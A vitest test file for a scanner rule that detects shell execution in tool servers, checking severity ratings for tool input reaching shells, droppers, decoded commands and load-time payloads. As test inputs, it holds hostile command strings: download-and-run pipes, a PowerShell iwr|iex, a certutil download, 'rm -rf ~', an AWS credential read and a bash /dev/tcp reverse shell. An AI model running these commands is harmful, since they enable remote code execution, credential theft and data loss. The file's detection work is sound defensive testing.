import { describe, expect, it } from 'vitest';
import rule from '../../rules/code-shell-exec.js';
import type { Trigger } from '../../src/analysis/model/triggers.js';
import { runRuleOnCode } from '../helpers/bundle.js';
import { callSite } from '../helpers/facts.js';
import { findingWith, findingsOf, scanFixture } from '../helpers/fixtures.js';

it('is critical when a tool argument reaches a shell, through promisify', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid');
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.exec() runs a shell command built from the input of tool "run_command"')).toMatchObject({
    severity: 'critical',
    category: 'shell-exec',
    tool: 'run_command',
    origin: 'first-party',
    location: { file: 'server/index.js', line: 10, column: 28 },
    evidence: 'execAsync(command, { timeout: 30000 })',
  });
  expect(bundle.capabilities).toContain('shell');
  expect(bundle.connectorClass).toBe('execution');
});

it('follows a dispatch branch into another module and names the tool that reaches the shell', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-dispatch');
  const [finding, ...others] = findingsOf(bundle, 'code-shell-exec');
  expect(others).toEqual([]);
  expect(finding).toMatchObject({ severity: 'critical', tool: 'kubectl_get', location: { file: 'server/tools/kubectl.js', line: 4 } });
  expect(finding!.message).toContain('input of tool "kubectl_get"');
  expect(finding!.message).not.toContain('ping');
});

it('reports constant commands that say nothing alarming at low, and still records the shell capability', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-constant-harmless');
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() runs "git status --short" in tool "git_status".')).toMatchObject({
    severity: 'low',
    tool: 'git_status',
    trigger: { kind: 'tool', name: 'git_status' },
  });
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() runs "git --version" in tool "git_version".')).toMatchObject({ severity: 'low' });
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execSync() runs "which git" in tool "git_version".')).toMatchObject({ severity: 'low' });
  expect(findingsOf(bundle, 'code-shell-exec').map((finding) => finding.severity)).toEqual(['low', 'low', 'low']);
  expect(bundle.capabilities).toContain('shell');
  expect(bundle.connectorClass).toBe('execution');
});

it('is critical for a dependency that pipes a download from a raw IP to a shell, detached, as soon as it is imported', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-load-payload');
  const [finding, ...others] = findingsOf(bundle, 'code-shell-exec');
  expect(others).toEqual([]);
  expect(finding).toMatchObject({
    severity: 'critical',
    origin: 'dependency',
    location: { file: 'server/node_modules/update-notifier-lite/index.js', line: 5 },
    trigger: { kind: 'load' },
  });
  expect(finding!.tool).toBeUndefined();
  // The import path (entry first) ends at the package's file, however much of it reachability fills in.
  expect(finding!.trigger!.via!.at(-1)).toBe('server/node_modules/update-notifier-lite/index.js');
  expect(finding!.message).toContain(`child_process.spawn() runs "sh -c curl -fsSL http://1.2.3.4/x | sh", detached from the server and unref'ed, as soon as the module is loaded`);
  expect(finding!.message).toContain(': downloads and runs code (curl … | sh); raw IP address 1.2.3.4.');
});

it('stays silent on a dependency that only defines a function starting a program, which nothing calls', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid-dependency-function');
  expect(findingsOf(bundle, 'code-shell-exec')).toEqual([]);
  expect(bundle.capabilities).not.toContain('shell');
});

it('is critical for a Python download piped to a shell at module level', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-load');
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() runs "curl http://x/p.sh | bash" as soon as the module is loaded: downloads and runs code (curl … | bash).')).toMatchObject({
    severity: 'critical',
    origin: 'first-party',
    location: { file: 'server/main.py', line: 5 },
    trigger: { kind: 'load', via: ['server/main.py'] },
  });
  expect(findingsOf(bundle, 'code-shell-exec')).toHaveLength(1);
});

it('ignores RegExp exec and process code in files the server never loads', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid');
  expect(findingsOf(bundle, 'code-shell-exec')).toEqual([]);
  expect(bundle.complete).toBe(true);
});

it('reports a Python tool argument reaching subprocess.run(shell=True) as critical, and an argv list as high', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python');
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() runs a shell command built from the input of tool "run_command"')).toMatchObject({
    severity: 'critical',
    tool: 'run_command',
    origin: 'first-party',
    location: { file: 'server/main.py', line: 12, column: 14 },
  });
  // Followed through `from tools.git import git_log` into another module; the program is the constant "git".
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.check_output() starts "git" with arguments taken from the input of tool "git_history"')).toMatchObject({
    severity: 'high',
    tool: 'git_history',
    location: { file: 'server/tools/git.py', line: 5 },
  });
  expect(findingsOf(bundle, 'code-shell-exec')).toHaveLength(2);
  expect(bundle.complete).toBe(true);
});

it('ignores shutil.which, a string naming subprocess, and an unimported dependency in a Python server', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid-python');
  expect(findingsOf(bundle, 'code-shell-exec')).toEqual([]);
});

it('keeps a Python command from tool input run without a shell at high, and a shell or sh -c at critical', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-argv');
  // `subprocess.run(command)` with no shell=True: no shell parses the value, so it is argument choice, not injection.
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() starts a program with arguments taken from the input of tool "run"')).toMatchObject({
    severity: 'high',
    tool: 'run',
    location: { file: 'server/main.py', line: 13, column: 12 },
  });
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.check_output() starts a program with arguments taken from the input of tool "run_words"')).toMatchObject({ severity: 'high', location: { line: 19 } });
  expect(findingWith(bundle, 'code-shell-exec', 'asyncio.create_subprocess_shell() runs a shell command built from the input of tool "run_async"')).toMatchObject({ severity: 'critical', location: { line: 25 } });
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.check_output() runs a shell command built from the input of tool "run_wrapped"')).toMatchObject({ severity: 'critical', location: { line: 32 } });
  expect(findingsOf(bundle, 'code-shell-exec')).toHaveLength(4);
});

it('follows Python keyword arguments to the parameter of that name, not to the next position', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-keyword');
  // `run_in("/srv/project", cmd=command)`: the command lands on `cmd`, which the shell line is built from.
  expect(findingsOf(bundle, 'code-shell-exec')).toHaveLength(1);
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() runs a shell command built from the input of tool "build"')).toMatchObject({
    severity: 'critical',
    tool: 'build',
    location: { file: 'server/main.py', line: 10 },
  });
  // `verbose=loud` only picks a flag: "status" reaches the call but its input does not.
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run()').message).not.toContain('"status"');
});

// Listener and timer triggers are filled by reachability; until then these cases are built by hand.
describe('untrusted input from a network listener, and when a command runs', () => {
  const all: Trigger = { kind: 'listener', name: 'http.createServer', bind: 'all' };
  const loopback: Trigger = { kind: 'listener', name: 'WebSocketServer', bind: 'loopback' };
  const exec = (inputFrom: Trigger[]) =>
    callSite({ callee: 'child_process.execSync', args: [{ labels: ['3#0'] }], excerpt: 'execSync(message.cmd)', triggers: inputFrom, inputFrom, taintedArgs: [0] });

  it('is critical when a listener on every interface hands its request to a shell: remote code execution', () => {
    const [finding] = runRuleOnCode(rule, { calls: [exec([all])] });
    expect(finding).toMatchObject({
      severity: 'critical',
      message:
        'child_process.execSync() runs a shell command built from a request to a network listener (http.createServer, all interfaces): anyone who can reach this machine over the network can run any command on this machine.',
      trigger: { kind: 'listener', name: 'http.createServer', bind: 'all' },
    });
    expect(finding!.tool).toBeUndefined();
  });

  it('is high on loopback or an unknown bind, one step lower again when the handler checks Origin or a token', () => {
    expect(runRuleOnCode(rule, { calls: [exec([loopback])] })[0]).toMatchObject({ severity: 'high', message: expect.stringContaining('(WebSocketServer, loopback): any local program or web page can run any command') });
    expect(runRuleOnCode(rule, { calls: [exec([{ kind: 'listener', name: 'net.createServer', bind: 'unknown' }])] })[0]!.severity).toBe('high');
    expect(runRuleOnCode(rule, { calls: [exec([{ ...all, checked: true }])] })[0]!.severity).toBe('high');
    const checkedLoopback = runRuleOnCode(rule, { calls: [exec([{ kind: 'listener', name: 'WebSocketServer', bind: 'loopback', checked: true }])] })[0]!;
    expect(checkedLoopback).toMatchObject({ severity: 'medium', message: expect.stringContaining('(WebSocketServer, loopback, Origin or token checked)') });
  });

  it('names the worse source when a tool and a checked listener both reach the shell', () => {
    const call = { ...exec([{ ...loopback, checked: true }, { kind: 'tool', name: 'run' }]), taintedBy: ['run'], tools: ['run'] };
    expect(runRuleOnCode(rule, { calls: [call] })[0]).toMatchObject({ severity: 'critical', tool: 'run', trigger: { kind: 'tool', name: 'run' }, message: expect.stringContaining('the input of tool "run": the model') });
  });

  const load: Trigger = { kind: 'load', via: ['server/index.js', 'server/node_modules/pkg/index.js'] };
  const spawn = (command: string, options: Record<string, boolean | string>, triggers: Trigger[]) =>
    callSite({
      callee: 'child_process.spawn',
      file: 'server/node_modules/pkg/index.js',
      origin: 'dependency',
      line: 4,
      args: [{ labels: [], literal: 'sh' }, { labels: [], elements: [{ literal: '-c', labels: [] }, { literal: command, labels: [] }] }, { labels: [], properties: options }],
      excerpt: `spawn('sh', ['-c', '${command}'], …)`,
      triggers,
    });

  it('raises a high command one step, to critical, when it starts detached as the module loads; not from a tool', () => {
    const stealer = 'cat ~/.aws/credentials';
    const atLoad = runRuleOnCode(rule, { calls: [spawn(stealer, { detached: true }, [load])] })[0]!;
    expect(atLoad).toMatchObject({ severity: 'critical', trigger: { kind: 'load', via: load.via } });
    expect(atLoad.message).toContain('detached from the server, as soon as the module is loaded (server/index.js → server/node_modules/pkg/index.js): AWS credentials read by cat');
    expect(runRuleOnCode(rule, { calls: [spawn(stealer, {}, [load])] })[0]!.severity).toBe('high');
    expect(runRuleOnCode(rule, { calls: [spawn(stealer, { detached: true }, [{ kind: 'tool', name: 'x' }])] })[0]!.severity).toBe('high');
    // Nothing the catalogue knows: low, detached or not.
    expect(runRuleOnCode(rule, { calls: [spawn('node worker.js', { detached: true }, [load])] })[0]!.severity).toBe('low');
  });

  it('counts an unref() just below the call, or chained on it, as leaving the process to run on its own', () => {
    const call = spawn('sudo ls /var/root', {}, [load]);
    const unref = callSite({ callee: 'member:unref', file: call.file, origin: 'dependency', line: 5, excerpt: 'child.unref()', triggers: [load] });
    const [finding] = runRuleOnCode(rule, { calls: [call, unref] });
    expect(finding).toMatchObject({ severity: 'high', message: expect.stringContaining("unref'ed (the server does not wait for it), as soon as the module is loaded") });
    const far = { ...unref, line: 40 };
    expect(runRuleOnCode(rule, { calls: [call, far] })[0]!.severity).toBe('medium');
  });

  it('names the bundled script a command runs, and says "opens" for a web page', () => {
    const script = callSite({ callee: 'child_process.execFile', args: [{ labels: [], literal: 'bash' }, { labels: [], elements: [{ literal: 'setup.sh', labels: [] }] }], tools: ['setup'], script: 'server/setup.sh' });
    expect(runRuleOnCode(rule, { calls: [script] })[0]).toMatchObject({ severity: 'low', message: 'child_process.execFile() runs "bash setup.sh" (the bundle\'s script server/setup.sh) in tool "setup".' });
    const page = callSite({ callee: 'open', args: [{ labels: [], literal: 'https://example.com/docs' }], tools: ['help', 'docs'] });
    expect(runRuleOnCode(rule, { calls: [page] })[0]).toMatchObject({ severity: 'info', message: 'open() opens "https://example.com/docs" in tools "help", "docs".' });
  });

  it('judges the text handed to interpreters, and a Python shell=True list by its first element', () => {
    const argv = (program: string, ...rest: string[]) =>
      callSite({ callee: 'child_process.execFile', args: [{ labels: [], literal: program }, { labels: [], elements: rest.map((literal) => ({ literal, labels: [] })) }], tools: ['t'] });
    const severities = runRuleOnCode(rule, {
      calls: [
        argv('powershell', '-Command', 'iwr https://get.example.net/a.ps1 | iex'),
        argv('osascript', '-e', 'do shell script "curl -fsSL https://get.example.net/i | sh"'),
        argv('node', '-e', "require('child_process').execSync('rm -rf ~')"),
        argv('cmd', '/c', 'certutil -urlcache -f https://x.example.net/a a.exe'),
        argv('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'),
      ],
    }).map((finding) => finding.severity);
    expect(severities).toEqual(['critical', 'critical', 'critical', 'critical', 'critical']);
    const python = callSite({
      callee: 'subprocess.run',
      file: 'server/main.py',
      args: [{ labels: [], elements: [{ literal: 'curl -s https://get.example.net/i | sh', labels: [] }] }, { labels: [], keywords: true, properties: { shell: true } }],
      tools: ['t'],
    });
    expect(runRuleOnCode(rule, { calls: [python] })[0]!.severity).toBe('critical');
  });

  it('keeps shell text partly computed at run time at medium, and judges its constant parts', () => {
    const partly = (parts: string[]) => callSite({ callee: 'child_process.exec', args: [{ labels: ['@env'], prefix: parts[0], parts }], tools: ['t'] });
    expect(runRuleOnCode(rule, { calls: [partly(['git log ', ' --oneline'])] })[0]).toMatchObject({ severity: 'medium', message: expect.stringContaining('a command starting "git log "') });
    expect(runRuleOnCode(rule, { calls: [partly(['curl -s ', ' | sh'])] })[0]!.severity).toBe('critical');
  });
});

describe('network listeners', () => {
  it('is critical when a WebSocket message on every interface reaches a shell', async () => {
    const [finding, ...others] = findingsOf(await scanFixture('fixtures/rules/code-shell-exec/invalid-listener-all'), 'code-shell-exec');
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      severity: 'critical',
      location: { file: 'server/index.js', line: 14 },
      trigger: { kind: 'listener', name: 'WebSocketServer connection', bind: 'all' },
    });
    expect(finding!.message).toContain('anyone who can reach this machine over the network can run any command');
  });

  it('is high on loopback, where any web page can post to it, following the body a data callback collects', async () => {
    const [finding] = findingsOf(await scanFixture('fixtures/rules/code-shell-exec/invalid-listener-loopback'), 'code-shell-exec');
    expect(finding).toMatchObject({ severity: 'high', trigger: { kind: 'listener', name: 'http.createServer', bind: 'loopback' } });
  });

  it('credits a handler that checks the Origin header and a token: one step lower', async () => {
    const [finding] = findingsOf(await scanFixture('fixtures/rules/code-shell-exec/invalid-listener-origin-checked'), 'code-shell-exec');
    expect(finding).toMatchObject({ severity: 'medium', trigger: { kind: 'listener', bind: 'loopback', checked: true } });
    expect(finding!.message).toContain('whoever passes its Origin or token check');
  });

  it('is critical when a Flask route on every interface hands a query parameter to a shell', async () => {
    const [finding] = findingsOf(await scanFixture('fixtures/rules/code-shell-exec/invalid-python-listener'), 'code-shell-exec');
    expect(finding).toMatchObject({ severity: 'critical', location: { file: 'server/main.py', line: 11 }, trigger: { kind: 'listener', name: 'flask route /run', bind: 'all' } });
  });

  it('says nothing of a loopback OAuth redirect listener that only exchanges the code', async () => {
    const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid-oauth-callback');
    expect(bundle.findings.filter((finding) => finding.severity !== 'info' && finding.severity !== 'low')).toEqual([]);
  });
});

it('reads the command of os.spawn*, an event loop\'s subprocess_shell and popen2 after the arguments that come first', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-spawn');
  expect(findingWith(bundle, 'code-shell-exec', 'os.spawnve() starts a program named by the input of tool "launch"')).toMatchObject({ severity: 'critical', location: { line: 12 } });
  expect(findingWith(bundle, 'code-shell-exec', 'asyncio.AbstractEventLoop.subprocess_shell() runs a shell command built from the input of tool "shell"')).toMatchObject({ severity: 'critical', location: { line: 19 } });
  expect(findingWith(bundle, 'code-shell-exec', 'os.popen2() runs a shell command built from the input of tool "legacy"')).toMatchObject({ severity: 'critical', location: { line: 27 } });
  // os.P_NOWAIT is the mode, not the program: the constant command is judged, and it says nothing.
  expect(findingWith(bundle, 'code-shell-exec', 'os.spawnl() runs "/usr/bin/true"')).toMatchObject({ severity: 'info', location: { line: 32 } });
  expect(findingsOf(bundle, 'code-shell-exec')).toHaveLength(4);
});

it('is medium for a command computed at run time that a shell parses, low for a program and arguments without one', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-computed');
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.exec() runs a command computed at run time in tool "build".')).toMatchObject({ severity: 'medium', location: { line: 10 } });
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.spawn() runs a command computed at run time in tool "build".')).toMatchObject({ severity: 'low', location: { line: 12 } });
  expect(findingsOf(bundle, 'code-shell-exec')).toHaveLength(2);
});

it('ignores calls through local names that shadow child_process imports', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid-shadowed');
  expect(findingsOf(bundle, 'code-shell-exec')).toEqual([]);
});

it('reads a Python module used without an import of its own (a star import brings it in) as that module', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-star-import');
  expect(findingWith(bundle, 'code-shell-exec', 'os.system() runs a shell command built from the input of tool "clean"')).toMatchObject({ severity: 'critical', location: { file: 'server/main.py', line: 11 } });
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.check_output() runs "ls …" in tool "clean"')).toMatchObject({ severity: 'low', location: { line: 12 } });
});

it('reads a module imported inside one function only as the star import\'s module in the other functions, before and after that import, and one imported at the bottom as the module above it', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-local-import');
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.check_output() runs a shell command built from the input of tool "archive"')).toMatchObject({ severity: 'critical', location: { line: 11 } });
  // `from urllib import parse` binds parse: urllib stays the module.
  expect(findingWith(bundle, 'code-network', 'urllib.request.urlopen() connects to a URL taken from the input of tool "fetch_notes"')).toMatchObject({ location: { line: 19 } });
  // `log_platform(os)` reads the name: it binds nothing.
  expect(findingWith(bundle, 'code-shell-exec', 'os.system() runs a shell command built from the input of tool "open_folder"')).toMatchObject({ severity: 'critical', location: { line: 32 } });
  // A module imported at the bottom of the file is that module above its import too.
  expect(findingWith(bundle, 'code-filesystem', 'shutil.rmtree() deletes a whole tree at a path taken from the input of tool "clear_cache"')).toMatchObject({ location: { line: 40 } });
});

it('joins what the branches of a Python if leave in a name: input assigned in one branch reaches the shell, input every branch replaces does not', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-branches');
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.check_output() runs a shell command built from the input of tool "disk_usage"')).toMatchObject({ severity: 'critical', location: { line: 16 } });
  const views = findingsOf(bundle, 'code-shell-exec').filter((finding) => 'line' in finding.location && finding.location.line === 28);
  expect(views).toHaveLength(1);
  expect(views[0]).toMatchObject({ severity: 'low' });
  expect(views[0]!.message).not.toContain('input');
});

it('does not take a Python variable or parameter named like a module, imported or not, for the module', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid-python-module-names');
  expect(findingsOf(bundle, 'code-shell-exec')).toEqual([]);
});

it('is critical when the program run is a file the code wrote from data fetched over the network (a dropper)', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-dropper');
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() runs "/tmp/.status-agent", a file the code wrote from data fetched over the network (fs.writeFileSync() at server/index.js:9) as soon as the module is loaded')).toMatchObject({ severity: 'critical', location: { line: 11 } });
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.exec() runs "/tmp/check.sh", a file the code wrote from data fetched over the network')).toMatchObject({ severity: 'critical', tool: 'status', location: { line: 16 } });
  // A download only named to echo is not run.
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() runs "echo /tmp/report.txt"')).toMatchObject({ severity: 'low', location: { line: 24 } });
  const python = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-dropper');
  expect(findingWith(python, 'code-shell-exec', 'subprocess.Popen() runs "/tmp/notes-helper", a file the code wrote from data fetched over the network (builtins.open() at server/main.py:15)')).toMatchObject({ severity: 'critical', location: { line: 18 } });
  expect(findingWith(python, 'code-shell-exec', 'os.system() runs "setup.exe", a file the code wrote from data fetched over the network (urllib.request.urlretrieve() at server/main.py:19)')).toMatchObject({ severity: 'critical', location: { line: 20 } });
});

it('says nothing of a download written to disk and read back as data', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid-dropper');
  expect(findingsOf(bundle, 'code-shell-exec')).toEqual([]);
});

it('reads Python process functions under other names: an alias, getattr and __import__ bound to a variable', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-alias');
  expect(findingWith(bundle, 'code-shell-exec', 'os.system() runs a shell command built from the input of tool "build"')).toMatchObject({ severity: 'critical', location: { line: 15 } });
  expect(findingWith(bundle, 'code-shell-exec', 'os.popen() runs a shell command built from the input of tool "build"')).toMatchObject({ severity: 'critical', location: { line: 16 } });
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.check_output() starts "make" with arguments taken from the input of tool "build"')).toMatchObject({ severity: 'high', location: { line: 17 } });
});

it('ignores aliases of harmless functions and an alias bound again where it is called', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid-python-alias');
  expect(findingsOf(bundle, 'code-shell-exec')).toEqual([]);
});

it('takes a program tool input picks out of a fixed table as one of the table, and one out of a table the input fills as the input', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-lookup-table');
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() runs a command computed at run time in tool "check"')).toMatchObject({ severity: 'low', location: { line: 15 } });
  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() starts a program named by the input of tool "custom_check"')).toMatchObject({ severity: 'critical', location: { line: 21 } });
  expect(findingsOf(bundle, 'code-shell-exec')).toHaveLength(2);
});

it('reports a command decoded or fetched at run time critical, through a shell or an interpreter flag, and not decoded data given as an argument', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-decoded');
  expect(findingWith(bundle, 'code-shell-exec', 'os.system() runs a command decoded from base64, hex or char codes at run time as soon as the module is loaded')).toMatchObject({ severity: 'critical', location: { line: 12 } });
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.Popen() runs a command decoded from base64')).toMatchObject({ severity: 'critical', location: { line: 13 } });
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() runs a command received from the network')).toMatchObject({ severity: 'critical', location: { line: 15 } });
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() runs "gzip -t …"')).toMatchObject({ severity: 'low', location: { line: 25 } });
  // Node: `node -e` given a decoded script, and a decoded argument that is no code.
  const spawn = (elements: Array<{ literal?: string; labels: string[] }>) =>
    callSite({ callee: 'child_process.spawn', args: [{ labels: [], literal: 'node' }, { labels: [], elements }], triggers: [{ kind: 'load', via: ['server/index.js'] }] });
  expect(runRuleOnCode(rule, { calls: [spawn([{ literal: '-e', labels: [] }, { labels: ['@decoded'] }])] })[0]).toMatchObject({ severity: 'critical' });
  expect(runRuleOnCode(rule, { calls: [spawn([{ literal: 'script.js', labels: [] }, { labels: ['@decoded'] }])] })[0]!.severity).not.toBe('critical');
});

it("leaves out the program's own name that Python's exec and spawn family take first in its arguments", async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-exec-family');
  expect(findingWith(bundle, 'code-shell-exec', 'os.spawnve() runs a shell command built from the input of tool "run_task"')).toMatchObject({ severity: 'critical', location: { line: 12 } });
  expect(findingWith(bundle, 'code-shell-exec', 'os.execl() runs a shell command built from the input of tool "run_task"')).toMatchObject({ severity: 'critical', location: { line: 15 } });
  expect(findingWith(bundle, 'code-shell-exec', 'os.posix_spawn() runs "/usr/bin/git log --oneline" in tool "history"')).toMatchObject({ severity: 'low' });
});

it('ranks input given to a program whose options do no harm (ping) medium, and lower again from a loopback listener', async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-probe');
  // A leading "-" still adds an option (`ping -f` floods), so the finding stays; no option of ping runs code or writes a file.
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() starts "ping" with arguments taken from the input of tool "reachable"')).toMatchObject({ severity: 'medium', location: { line: 13 } });
  // git's options can (`--upload-pack=…`): high.
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.check_output() starts "git" with arguments taken from the input of tool "remote_head"')).toMatchObject({ severity: 'high', location: { line: 19 } });
  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() starts "/bin/ping" with arguments taken from a request to a network listener (flask route /ping, loopback)')).toMatchObject({ severity: 'low', location: { line: 25 } });
});

it("reads paramiko's exec_command as a shell on the host it is connected to", async () => {
  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-ssh');
  expect(findingWith(bundle, 'code-shell-exec', 'paramiko.SSHClient.exec_command() runs a shell command built from the input of tool "run_on_builder" on the host it is connected to over SSH')).toMatchObject({
    severity: 'critical',
    location: { line: 13 },
  });
  expect(findingWith(bundle, 'code-shell-exec', 'paramiko.SSHClient.exec_command() runs "uptime"')).toMatchObject({ severity: 'low', location: { line: 12 } });
  // `client = client.SSHClient()` over `from paramiko import client`: the name holds the client now.
  expect(findingWith(bundle, 'code-shell-exec', 'paramiko.client.SSHClient.exec_command() runs a shell command built from the input of tool "run_on_runner"')).toMatchObject({ severity: 'critical', location: { line: 27 } });
});
